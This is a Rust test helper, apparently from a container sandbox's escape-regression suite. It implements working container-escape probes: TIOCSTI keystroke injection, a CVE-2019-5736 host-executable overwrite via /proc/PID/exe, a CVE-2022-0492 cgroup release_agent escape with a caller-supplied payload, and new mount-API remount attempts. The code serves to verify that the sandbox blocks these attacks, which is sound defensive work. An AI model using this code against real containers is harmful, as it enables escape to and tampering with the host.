//! ward-probe: the attacker's program of the escape-regression suite
//! (`tests/tests/escapes/`), for what busybox cannot do. `tests/build.rs`
//! builds it statically (glibc, `+crt-static`) and the tests copy it into a
//! container's rootfs.
//!
//! ```text
//! ward-probe tiocsti TEXT
//!     push TEXT into stdin's terminal with TIOCSTI (CVE-2017-5226); prints
//!     `tiocsti: ok` or `tiocsti: failed: ERROR`; exit 0 / 3
//! ward-probe overwrite-exe REPORT TIMEOUT_MS
//!     CVE-2019-5736: wait for another process of this pid namespace whose
//!     executable is not ours (/proc/PID/exe opens), keep that handle, and
//!     once the process is gone reopen it for writing through
//!     /proc/self/fd/N and write a marker. The outcome goes to REPORT
//!     (written at the end, atomically): `handle: ...` then
//!     `overwrite: ok` | `overwrite: refused: ...`, or `no-handle`.
//! ward-probe userns-release-agent NAME PAYLOAD
//!     CVE-2022-0492 without capabilities: unshare user, mount and cgroup
//!     namespaces (root inside), mount the existing cgroup v1 hierarchy
//!     `name=NAME`, set `notify_on_release` on a new cgroup and write
//!     PAYLOAD to `release_agent`, then let a process leave the cgroup.
//!     Prints one `userns: STEP: ok|failed: ERROR` line per step.
//! ward-probe ids
//!     prints `ids: ruid=R euid=E suid=S` (getresuid), for no_new_privs
//!     tests with a setuid-root copy of the probe
//! ward-probe mount-api DIR
//!     tries to mount with mount(2) and with each call of the new mount
//!     API (fsopen/fsconfig/fsmount, open_tree, move_mount onto DIR,
//!     mount_setattr clearing the read-only flag of /); one
//!     `mount-api: STEP: ok|failed: ERROR` line per step, then
//!     `mount-api: DIR mounted: yes|no` and `mount-api: / writable: yes|no`
//! ```
#![forbid(unsafe_code)]

use std::fs::File;
use std::io::Write;
use std::os::fd::{AsFd, AsRawFd};
use std::os::unix::fs::MetadataExt;
use std::process::ExitCode;
use std::time::{Duration, Instant};

/// What a successful CVE-2019-5736 overwrite writes at the start of the file.
const MARKER: &[u8] = b"PWNED-BY-CVE-2019-5736\n";

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let rest = args.get(1..).unwrap_or(&[]);
    match args.first().map(String::as_str) {
        Some("tiocsti") => tiocsti(rest),
        Some("overwrite-exe") => overwrite_exe(rest),
        Some("userns-release-agent") => userns_release_agent(rest),
        Some("ids") => ids(),
        Some("mount-api") => mount_api(rest),
        _ => {
            eprintln!(
                "usage: ward-probe tiocsti TEXT | overwrite-exe REPORT TIMEOUT_MS \
                 | userns-release-agent NAME PAYLOAD | ids | mount-api DIR"
            );
            ExitCode::from(2)
        }
    }
}

fn tiocsti(args: &[String]) -> ExitCode {
    let text = args.first().map(String::as_str).unwrap_or("x");
    let stdin = std::io::stdin();
    for b in text.bytes() {
        if let Err(e) = ward_sys::probe::tiocsti(stdin.as_fd(), b) {
            println!("tiocsti: failed: {e}");
            return ExitCode::from(3);
        }
    }
    println!("tiocsti: ok");
    ExitCode::SUCCESS
}

/// (st_dev, st_ino) of a path, if it exists.
fn id_of(path: &str) -> Option<(u64, u64)> {
    std::fs::metadata(path).ok().map(|m| (m.dev(), m.ino()))
}

fn overwrite_exe(args: &[String]) -> ExitCode {
    let (Some(report), Some(ms)) = (args.first(), args.get(1)) else {
        eprintln!("usage: ward-probe overwrite-exe REPORT TIMEOUT_MS");
        return ExitCode::from(2);
    };
    let timeout = Duration::from_millis(ms.parse().unwrap_or(5000));
    let deadline = Instant::now() + timeout;
    let mut lines = Vec::new();
    let code = attack(deadline, &mut lines);
    let tmp = format!("{report}.tmp");
    let written =
        std::fs::write(&tmp, lines.join("\n") + "\n").and_then(|()| std::fs::rename(&tmp, report));
    if let Err(e) = written {
        eprintln!("ward-probe: writing {report}: {e}");
        return ExitCode::from(2);
    }
    code
}

fn attack(deadline: Instant, out: &mut Vec<String>) -> ExitCode {
    let me = std::process::id();
    // Executables of the container itself: ours and busybox.
    let own: Vec<(u64, u64)> = ["/proc/self/exe", "/bin/busybox"]
        .iter()
        .filter_map(|p| id_of(p))
        .collect();
    let mut found: Option<(u32, File, String)> = None;
    while found.is_none() && Instant::now() < deadline {
        let Ok(rd) = std::fs::read_dir("/proc") else {
            out.push("no-handle: cannot read /proc".into());
            return ExitCode::from(4);
        };
        for e in rd.flatten() {
            let Some(pid) = e.file_name().to_str().and_then(|s| s.parse::<u32>().ok()) else {
                continue;
            };
            if pid == me || pid == 1 {
                continue;
            }
            // Fails (EACCES) while the process is non-dumpable.
            let Ok(f) = File::open(format!("/proc/{pid}/exe")) else {
                continue;
            };
            let Ok(md) = f.metadata() else { continue };
            if own.contains(&(md.dev(), md.ino())) {
                continue;
            }
            let link = std::fs::read_link(format!("/proc/{pid}/exe"))
                .map(|p| p.display().to_string())
                .unwrap_or_else(|e| format!("? ({e})"));
            found = Some((pid, f, link));
            break;
        }
    }
    let Some((pid, exe, link)) = found else {
        out.push("no-handle".into());
        return ExitCode::from(4);
    };
    out.push(format!("handle: pid {pid} exe {link}"));
    let path = format!("/proc/self/fd/{}", exe.as_raw_fd());
    let mut busy = 0u32;
    loop {
        match std::fs::OpenOptions::new().write(true).open(&path) {
            Ok(mut w) => {
                return match w.write_all(MARKER).and_then(|()| w.flush()) {
                    Ok(()) => {
                        out.push(format!("overwrite: ok (after {busy} ETXTBSY)"));
                        ExitCode::SUCCESS
                    }
                    Err(e) => {
                        out.push(format!("overwrite: refused: write: {e}"));
                        ExitCode::from(3)
                    }
                };
            }
            Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) && Instant::now() < deadline => {
                busy += 1;
                std::thread::sleep(Duration::from_millis(1));
            }
            Err(e) => {
                out.push(format!(
                    "overwrite: refused: reopen for writing: {e} (after {busy} ETXTBSY)"
                ));
                return ExitCode::from(3);
            }
        }
    }
}

/// Prints `userns: STEP: ok` or `userns: STEP: failed: ERROR`; true if ok.
fn step<T, E: std::fmt::Display>(what: &str, r: Result<T, E>) -> bool {
    match r {
        Ok(_) => {
            println!("userns: {what}: ok");
            true
        }
        Err(e) => {
            println!("userns: {what}: failed: {e}");
            false
        }
    }
}

fn userns_release_agent(args: &[String]) -> ExitCode {
    use nix::mount::{mount, umount2, MntFlags, MsFlags};
    use nix::sched::{unshare, CloneFlags};
    let (Some(name), Some(payload)) = (args.first(), args.get(1)) else {
        eprintln!("usage: ward-probe userns-release-agent NAME PAYLOAD");
        return ExitCode::from(2);
    };
    let flags = CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS | CloneFlags::CLONE_NEWCGROUP;
    if !step("unshare user+mount+cgroup", unshare(flags)) {
        return ExitCode::from(3);
    }
    // Root of the new user namespace, as `unshare -r` does.
    let maps = std::fs::write("/proc/self/setgroups", "deny")
        .and_then(|()| std::fs::write("/proc/self/uid_map", "0 0 1"))
        .and_then(|()| std::fs::write("/proc/self/gid_map", "0 0 1"));
    if !step("uid/gid maps", maps) {
        return ExitCode::from(3);
    }
    let none: Option<&str> = None;
    let _ = mount(none, "/", none, MsFlags::MS_REC | MsFlags::MS_PRIVATE, none);
    let dir = "/tmp/ward-probe-cgroup";
    let _ = std::fs::create_dir_all(dir);
    let data = format!("none,name={name}");
    if !step(
        "mount cgroup v1",
        mount(
            Some("cgroup"),
            dir,
            Some("cgroup"),
            MsFlags::empty(),
            Some(data.as_str()),
        ),
    ) {
        return ExitCode::from(3);
    }
    let cg = format!("{dir}/x-userns");
    step("mkdir cgroup", std::fs::create_dir(&cg));
    step(
        "notify_on_release",
        std::fs::write(format!("{cg}/notify_on_release"), "1"),
    );
    let agent = step(
        "release_agent",
        std::fs::write(format!("{dir}/release_agent"), payload),
    );
    // A process enters the cgroup and exits: the cgroup becomes empty.
    step(
        "enter and leave the cgroup",
        std::process::Command::new("/bin/sh")
            .arg("-c")
            .arg(format!("echo $$ > {cg}/cgroup.procs"))
            .status(),
    );
    if agent {
        // Give the host's usermode helper time to run before cleaning up.
        std::thread::sleep(Duration::from_millis(1500));
    }
    let _ = std::fs::remove_dir(&cg);
    let _ = umount2(dir, MntFlags::MNT_DETACH);
    ExitCode::SUCCESS
}

fn ids() -> ExitCode {
    match nix::unistd::getresuid() {
        Ok(r) => {
            println!("ids: ruid={} euid={} suid={}", r.real, r.effective, r.saved);
            ExitCode::SUCCESS
        }
        Err(e) => {
            println!("ids: failed: {e}");
            ExitCode::from(3)
        }
    }
}

fn try_step<T>(name: &str, r: std::io::Result<T>) -> Option<T> {
    match r {
        Ok(v) => {
            println!("mount-api: {name}: ok");
            Some(v)
        }
        Err(e) => {
            println!("mount-api: {name}: failed: {e}");
            None
        }
    }
}

fn mounted(dir: &str) -> bool {
    std::fs::read_to_string("/proc/self/mountinfo")
        .is_ok_and(|s| s.lines().any(|l| l.split(' ').nth(4) == Some(dir)))
}

fn mount_api(args: &[String]) -> ExitCode {
    use ward_sys::mount as m;
    let Some(dir) = args.first() else {
        eprintln!("usage: ward-probe mount-api DIR");
        return ExitCode::from(2);
    };
    let Some(target) = try_step(
        "open target",
        File::open(dir).map(std::os::fd::OwnedFd::from),
    ) else {
        return ExitCode::from(2);
    };
    try_step(
        "mount",
        nix::mount::mount(
            Some("tmpfs"),
            dir.as_str(),
            Some("tmpfs"),
            nix::mount::MsFlags::empty(),
            None::<&str>,
        )
        .map_err(std::io::Error::from),
    );
    if let Some(fs) = try_step("fsopen", m::fsopen("tmpfs")) {
        if let Some(mnt) = try_step("fsmount", m::fs_create_mount(fs.as_fd(), 0)) {
            try_step(
                "move_mount fsmount",
                m::move_mount_fd(mnt.as_fd(), target.as_fd()),
            );
        }
    }
    let Some(root) = try_step("open /", File::open("/").map(std::os::fd::OwnedFd::from)) else {
        return ExitCode::from(2);
    };
    if let Some(tree) = try_step("open_tree", m::open_tree(root.as_fd(), "", true, false)) {
        try_step(
            "move_mount open_tree",
            m::move_mount_fd(tree.as_fd(), target.as_fd()),
        );
    }
    try_step(
        "mount_setattr",
        m::mount_setattr(root.as_fd(), false, 0, m::MOUNT_ATTR_RDONLY, 0),
    );
    let yes = |b: bool| if b { "yes" } else { "no" };
    println!("mount-api: {dir} mounted: {}", yes(mounted(dir)));
    let probe = "/.ward-probe-rw";
    let writable = std::fs::write(probe, b"x").is_ok();
    let _ = std::fs::remove_file(probe);
    println!("mount-api: / writable: {}", yes(writable));
    ExitCode::SUCCESS
}
